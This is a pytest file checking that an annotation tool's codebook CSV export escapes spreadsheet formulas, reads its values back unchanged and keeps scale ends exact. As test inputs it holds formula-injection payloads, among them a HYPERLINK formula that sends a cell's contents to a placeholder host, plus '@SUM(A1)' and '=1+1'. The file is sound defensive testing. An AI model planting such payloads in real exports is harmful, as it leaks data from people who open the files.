"""A codebook that spreadsheets open safely, and that says again what was put into it."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from annotations.derivation.rules import DerivationRules
from annotations.exports.codebook import AskedCriterion, write_codebook
from annotations.exports.tables.columns import COLUMNS
from annotations.exports.tables.questions import read_codebook
from annotations.imports.scales import read_scales
from annotations.services.dataset_imports import ImportRequest, import_dataset
from annotations.services.datasets import release_folder
from tests.factories import make_team, make_user

FORMULA = '=HYPERLINK("http://127.0.0.1/?"&A1, "Empathy")'


def criterion(slug: str = "hope", name: str = "Hope", **fields: object) -> AskedCriterion:
    known = {"question": "How much?", "kind": "Score on a scale", "level": "ordinal"}
    more = {"reverse_scored": True, "instrument": "I (version 2)", **fields}
    return AskedCriterion(slug, name, **{**known, **more})  # type: ignore[arg-type]


def written(folder: Path, *criteria: AskedCriterion) -> Path:
    folder.mkdir(exist_ok=True)
    write_codebook(folder / "codebook.csv", COLUMNS, {}, criteria)
    return folder / "codebook.csv"


def test_what_people_wrote_is_no_formula_to_a_spreadsheet_and_is_read_back(tmp_path: Path) -> None:
    live = [
        criterion("=1+1", FORMULA, question="+1", low=-2, high=2, values={"-2": "@SUM(A1)"}),
        criterion("-cold", "\tCold", instrument="@I (version 1)", low=1, high=5),
    ]
    path = written(tmp_path / "one", *live)
    with path.open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert list(read_codebook(path, COLUMNS).asked.values()) == live
    scales = read_scales(path)
    assert (scales.ends["=1+1"], scales.ends["-cold"]) == ((-2, 2), (1, 5))
    assert scales.reversed == {"=1+1", "-cold"}
    assert path.read_bytes() == written(tmp_path / "two", *live).read_bytes()


@pytest.mark.parametrize(
    ("low", "high", "values"),
    [(0.1, 0.9, "0.1 to 0.9"), (-0.5, 1e-7, "'-0.5 to 0.0000001"), (1.0, 5.0, "1 to 5")],
)
def test_the_ends_of_a_scale_are_those_that_were_given(
    tmp_path: Path, low: float, high: float, values: str
) -> None:
    path = written(tmp_path, criterion(low=low, high=high))
    with path.open(encoding="utf-8", newline="") as file:
        assert list(csv.DictReader(file))[-1]["values"] == values
    asked = read_codebook(path, COLUMNS).asked["hope"]
    assert (asked.low, asked.high) == (low, high)
    assert read_scales(path).ends["hope"] == (low, high)


def test_codes_of_missing_answers_stay_whole_below_a_scale_with_broken_ends(
    tmp_path: Path,
) -> None:
    assert read_codebook(written(tmp_path, criterion(low=-99.5, high=0.5)), COLUMNS).lowest == -100


@pytest.mark.django_db
def test_the_codebook_of_an_imported_dataset_has_the_ends_of_its_scores(tmp_path: Path) -> None:
    file = tmp_path / "scores.jsonl"
    lines = [
        {"prompt": "I am sad.", "completion": f"Reply {score}.", "warmth": score}
        for score in (-0.5, 0.1, 0.9)
    ]
    file.write_text("".join(json.dumps(line) + "\n" for line in lines))
    dataset, _ = import_dataset(
        team=make_team(owner=make_user()),
        paths=[file],
        name="Elsewhere",
        licence="CC BY 4.0",
        consent_declared=True,
        request=ImportRequest(rules=DerivationRules(margin=0.5)),
    )
    path = release_folder(dataset) / "codebook.csv"
    asked = read_codebook(path, COLUMNS).asked["warmth"]
    assert (asked.low, asked.high) == (-0.5, 0.9)
